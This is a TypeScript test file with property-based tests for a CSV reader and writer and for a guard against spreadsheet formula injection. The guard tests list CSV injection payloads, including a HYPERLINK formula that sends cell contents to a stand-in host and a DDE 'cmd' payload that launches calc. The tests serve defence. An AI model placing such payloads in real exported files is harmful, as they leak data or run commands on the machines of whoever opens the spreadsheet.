import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fromCsv, guardFormula, toCsv, withoutGuard } from '../../../src/core/model/csv.ts';
import { shown } from '../../../src/messages/shown.ts';

/** A first line with no separator in its cells, as headings are. */
const heading = fc.stringMatching(/^[a-z][a-z ]{0,12}[a-z]$/);
const cell = fc.string({ unit: fc.constantFrom(...'aè1,;\t"\r\n '), maxLength: 12 });

describe('CSV', () => {
  test('returns every written row, whatever its cells contain', () => {
    const tables = fc.integer({ min: 2, max: 5 }).chain((columns) => {
      const row = fc.array(cell, { minLength: columns, maxLength: columns });
      return fc.tuple(fc.array(heading, { minLength: columns, maxLength: columns }), fc.array(row, { maxLength: 8 }));
    });
    fc.assert(
      fc.property(tables, ([headings, rows]) => {
        const filled = rows.filter((row) => row.some((one) => one.trim() !== ''));
        const written = filled.map((row) => row.map((one) => guardFormula(shown(one).trimStart())));
        expect(fromCsv(toCsv([headings, ...filled]))).toEqual([headings, ...written]);
      }),
    );
  });

  test.each([
    ['semicolons and a byte order mark', '\uFEFFa;b\r\n1,5;"x;y"\r\n'],
    ['tabs and bare line feeds', 'a\tb\n1,5\tx;y\n'],
    ['no line break at the end', 'a;b\r1,5;x;y'.replace('x;y', '"x;y"')],
    ['an empty line between', 'a;b\r\n\r\n1,5;"x;y"\r\n;\r\n'],
  ])('reads the formats of spreadsheets: %s', (_, text) => {
    expect(fromCsv(text)).toEqual([
      ['a', 'b'],
      ['1,5', 'x;y'],
    ]);
  });

  test('takes a quote that nothing ends as text, and reads on', () => {
    expect(fromCsv('a,b\n"x,1\ny,2\n')).toEqual([
      ['a', 'b'],
      ['"x', '1'],
      ['y', '2'],
    ]);
  });
});

/** Texts of characters that make, hide or split formulas. */
const hostile = fc.string({
  unit: fc.constantFrom(...'=+-@\t\r\n＝＋－＠\'"ab1 ,;\u200b\u202e\ufeff\u009b'),
  maxLength: 12,
});

describe('the guard against formulas', () => {
  test.each([
    '=HYPERLINK("http://x.test/"&A1,"x")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+9)*cmd',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '-',
    '+39 06 / 123 ask Maria',
    "'=1+1",
  ])('puts an apostrophe before %j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  test.each(['+390612345678', '-12.5', '-12,50', '+1', 'Rossi', "'t Hooft", 'a=b', '', '1-2', 'x@y.test', '–dash'])(
    'does not change %j',
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  test('loses nothing: every text can be had back', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(withoutGuard(guardFormula(text))).toBe(text);
      }),
      { numRuns: 1_000 },
    );
  });

  test('leaves nothing that a spreadsheet takes for a formula', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const guarded = guardFormula(text);
        expect(/^[=+\-@\t\r\n＝＋－＠]/.test(guarded) && !/^[+-]\d+([.,]\d+)?$/.test(guarded)).toBe(false);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('a cell', () => {
  /** Cells as a spreadsheet with this list separator reads the file, quotes only as the first character of a cell. */
  function cellsWith(separator: string, text: string): string[] {
    return text.split(/\r?\n/).flatMap((line) => line.split(separator).map((one) => one.replace(/^"/, '').trimStart()));
  }

  test.each([',', ';', '\t'])('is no formula for a spreadsheet with the separator %j', (separator) => {
    fc.assert(
      fc.property(fc.array(fc.array(hostile, { minLength: 2, maxLength: 4 }), { maxLength: 4 }), (rows) => {
        const found = cellsWith(separator, toCsv([['a', 'b'], ...rows]).slice(1)).filter(
          (one) => /^[=+\-@＝＋－＠]/.test(one) && !/^[+-]\d/.test(one),
        );
        expect(found).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  test('that another separator would split keeps its text, with an apostrophe before the formula', () => {
    expect(toCsv([['Anna;=cmd()', 'x, +1+1']])).toBe('\uFEFF"Anna;\'=cmd()","x, \'+1+1"\r\n');
  });
});
